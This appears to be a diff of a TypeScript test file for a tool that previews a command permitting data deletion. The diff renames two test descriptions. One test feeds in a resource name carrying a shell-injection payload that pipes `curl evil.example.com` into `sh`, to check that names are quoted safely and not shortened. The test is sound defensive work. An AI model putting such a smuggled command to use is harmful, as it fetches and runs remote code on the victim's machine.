@@ -154,7 +154,7 @@ test("a report shows a refusal of the data gate as a missing permission, not as 
   ]);
 });
 
-describe("command that permits losses of data", () => {
+describe("the command that permits losses of data", () => {
   const textOf = async (digest: Json, ...args: string[]) => {
     const file = join(folder, "preview.json");
     writeFileSync(file, JSON.stringify(digest, undefined, 4));
@@ -188,7 +188,7 @@ describe("command that permits losses of data", () => {
     expect(out).not.toMatch(/100[34]/);
   });
 
-  test("the command quotes names for a shell, and is shown whole", async () => {
+  test("the command quotes names for a shell, and is not shortened", async () => {
     const digest = deletion();
     const name = `x'; curl evil.example.com | sh; '${"`".repeat(4)}${"y".repeat(400)}`;
     for (const step of digest.steps) step.urn = step.urn.replace(":Volume::old-uploads", `:Volume::${name}`);
